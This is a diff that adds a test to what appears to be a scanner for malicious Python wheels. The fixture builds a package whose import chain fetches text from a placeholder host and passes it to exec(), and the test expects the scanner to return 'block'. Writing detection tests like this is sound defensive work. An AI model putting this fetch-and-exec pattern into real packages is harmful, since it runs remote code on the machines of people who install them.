@@ -108,6 +108,17 @@ def test_files_between_are_shown_too(lay):
     ]
 
 
+def test_the_way_may_be_long(lay):
+    files = {
+        f"ranker/g{n}.py": f"from .g{n + 1} import g{n + 1}\ndef g{n}():\n    return g{n + 1}()\n" for n in range(12)
+    }
+    files |= {f"ranker/d{n}.py": f"from .d{n + 1} import d{n + 1}\ndef d{n}(x):\n    d{n + 1}(x)\n" for n in range(12)}
+    files["ranker/g12.py"] = "import requests\ndef g12():\n    return requests.get('https://x.example/x').text\n"
+    files["ranker/d12.py"] = "def d12(x):\n    exec(x)\n"
+    files["ranker/__init__.py"] = "from .g0 import g0\nfrom .d0 import d0\nd0(g0())\n"
+    assert verdict(lay, wheel(files))[0] == "block"
+
+
 def test_a_file_between_that_is_no_python_is_told(lay):
     files = {
         "ranker/__init__.py": "from .a import get\nfrom .b import run\nrun(get())\nwhat ever\n",
